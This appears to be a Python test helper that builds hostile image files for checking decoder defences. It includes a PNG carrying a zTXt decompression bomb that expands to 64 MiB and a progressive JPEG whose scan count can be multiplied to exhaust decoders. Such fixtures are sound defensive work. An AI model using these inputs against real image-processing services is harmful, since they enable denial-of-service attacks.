"""Pictures that are made to hurt who decodes them."""

import struct
import zlib


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG file (ISO/IEC 15948, section 5.3)."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes | None = None) -> bytes:
    """A grey picture; its pixels are black unless `data` says otherwise."""
    if data is None:
        packer = zlib.compressobj(9)
        row = bytes(1 + width)
        data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def png_with_text_bomb() -> bytes:
    """A picture of one pixel with a compressed text of 64 MiB."""
    small = png(1, 1)
    text = chunk(b"zTXt", b"bomb\0\0" + zlib.compress(bytes(64 << 20), 9))
    return small[:33] + text + small[33:]


def jpeg(width: int, height: int, scan_count: int = 1) -> bytes:
    """A progressive picture that claims a size, with scans that have no data."""
    quantisation = b"\xff\xdb" + struct.pack(">HB", 67, 0) + bytes([1] * 64)
    frame = b"\xff\xc2" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    code = b"\xff\xc4" + struct.pack(">HB", 20, 0) + bytes([1] + [0] * 15) + b"\x00"
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x00\x00" + bytes(8)
    return b"\xff\xd8" + quantisation + frame + code + scan * scan_count + b"\xff\xd9"
